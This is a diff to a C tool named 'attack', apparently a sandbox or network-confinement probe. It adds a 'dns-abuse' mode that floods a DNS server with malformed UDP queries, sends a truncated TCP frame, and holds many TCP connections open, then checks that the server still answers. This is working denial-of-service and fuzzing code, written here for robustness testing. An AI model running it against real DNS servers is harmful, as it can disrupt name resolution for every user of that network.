@@ -481,6 +481,84 @@ static int raw_syn(const char *address, const char *port) {
   return 0;
 }
 
+/* One UDP datagram to `server`:53. */
+static void send_datagram(int fd, const struct sockaddr_in *server, const void *bytes, size_t length) {
+  ssize_t ignored = sendto(fd, bytes, length, 0, (const struct sockaddr *)server, sizeof *server);
+  (void)ignored;
+}
+
+/*
+ * Abuses a network's DNS server at `address`: malformed queries over UDP (too short, a
+ * response, a name pointing at itself, an over-long label, a name running past the end,
+ * random bytes), over TCP a frame promising more than it sends, and `connections` TCP
+ * connections held open. Then asks a proper query for `name` and prints "answered" (with
+ * the number of addresses) or "no answer": a server that survived and still serves.
+ */
+static int dns_abuse(const char *address, const char *name, int connections) {
+  struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53)};
+  if (inet_pton(AF_INET, address, &server.sin_addr) != 1) return puts("bad address"), 2;
+  int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  if (udp < 0) return report(-1);
+  const unsigned char short_one[] = {0x12};
+  const unsigned char response[] = {0, 1, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 1};
+  const unsigned char loop[] = {0, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1};
+  unsigned char long_label[12 + 1 + 100 + 5] = {0, 3, 1, 0, 0, 1};
+  long_label[12] = 100;
+  const unsigned char past_end[] = {0, 4, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 40, 'a', 'b'};
+  for (int round = 0; round < 20; round++) {
+    send_datagram(udp, &server, short_one, sizeof short_one);
+    send_datagram(udp, &server, response, sizeof response);
+    send_datagram(udp, &server, loop, sizeof loop);
+    send_datagram(udp, &server, long_label, sizeof long_label);
+    send_datagram(udp, &server, past_end, sizeof past_end);
+    unsigned char noise[512];
+    for (size_t i = 0; i < sizeof noise; i++) noise[i] = (unsigned char)rand();
+    send_datagram(udp, &server, noise, (size_t)(rand() % (int)sizeof noise) + 1);
+  }
+  int held = 0;
+  for (int i = 0; i < connections; i++) {
+    int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (tcp < 0 || connect(tcp, (const struct sockaddr *)&server, sizeof server) < 0) continue;
+    held++;
+    if (i == 0) { /* a frame promising 65535 bytes, of which 3 come */
+      const unsigned char partial[] = {0xff, 0xff, 1, 2, 3};
+      ssize_t ignored = write(tcp, partial, sizeof partial);
+      (void)ignored;
+    }
+  }
+  /* A proper query for `name`, as a resolver would send it. */
+  unsigned char query[300] = {0x4b, 0x1d, 1, 0, 0, 1};
+  size_t at = 12;
+  for (const char *label = name; *label;) {
+    const char *dot = strchr(label, '.');
+    size_t length = dot ? (size_t)(dot - label) : strlen(label);
+    if (length == 0 || length > 63 || at + length + 6 > sizeof query) return puts("bad name"), 2;
+    query[at++] = (unsigned char)length;
+    memcpy(query + at, label, length);
+    at += length;
+    label += length + (dot ? 1 : 0);
+  }
+  const unsigned char tail[] = {0, 0, 1, 0, 1};
+  memcpy(query + at, tail, sizeof tail);
+  at += sizeof tail;
+  struct timeval wait = {.tv_sec = 2};
+  setsockopt(udp, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
+  for (int attempt = 0; attempt < 3; attempt++) {
+    send_datagram(udp, &server, query, at);
+    unsigned char answer[512];
+    for (;;) {
+      ssize_t got = recv(udp, answer, sizeof answer, 0);
+      if (got < 0) break;
+      if (got >= 12 && answer[0] == 0x4b && answer[1] == 0x1d) {
+        printf("answered %d, %d connections held\n", answer[7], held);
+        return 0;
+      }
+    }
+  }
+  printf("no answer, %d connections held\n", held);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   const char *what = argc > 1 ? argv[1] : "";
@@ -502,6 +580,7 @@ int main(int argc, char **argv) {
   if (!strcmp(what, "tiocsti")) return try_tiocsti(a);
   if (!strcmp(what, "raw-udp")) return raw_udp(a, b, argc > 4 ? argv[4] : "");
   if (!strcmp(what, "raw-syn")) return raw_syn(a, b);
+  if (!strcmp(what, "dns-abuse")) return dns_abuse(a, b, argc > 4 ? atoi(argv[4]) : 0);
   if (!strcmp(what, "watch")) return watch(atoi(a), argc > 3 ? b : NULL);
   fprintf(stderr, "usage: attack bpf|perf|keyctl|session-keyring|syslog|unshare NS|...\n");
   return 2;
